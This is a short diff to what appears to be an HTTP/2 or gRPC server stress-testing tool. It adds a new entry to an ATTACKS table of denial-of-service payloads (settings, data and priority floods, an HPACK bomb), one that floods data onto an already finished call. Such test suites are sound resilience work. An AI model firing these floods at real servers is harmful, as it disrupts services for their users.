@@ -147,6 +147,8 @@ ATTACKS = {
     "settings_flood": lambda *where: storm(*where, endless(settings({4: 65535}) * 1000)),
     "settings_flood_unread": lambda *where: storm(*where, endless(settings({4: 65535}) * 1000), is_reading=False),
     "empty_data_flood": lambda *where: storm(*where, lambda: iter([headers(1, request(HEALTH_CHECK))] + [data(1) * 1000] * 100000)),
+    "data_of_a_call_that_is_over": lambda *where: storm(*where, lambda: iter(
+        [call(1, HEALTH_CHECK, message()), headers(3, request("/no.Such/Method"))] + [data(3, b"x" * 16384) * 4] * 100000)),
     "priority_flood": lambda *where: storm(*where, endless(b"".join(
         frame(frames.PRIORITY, 0, stream, b"\0\0\0\0\x0f") for stream in range(1, 2001, 2)))),
     "hpack_bomb": lambda *where: storm(*where, hpack_bomb),
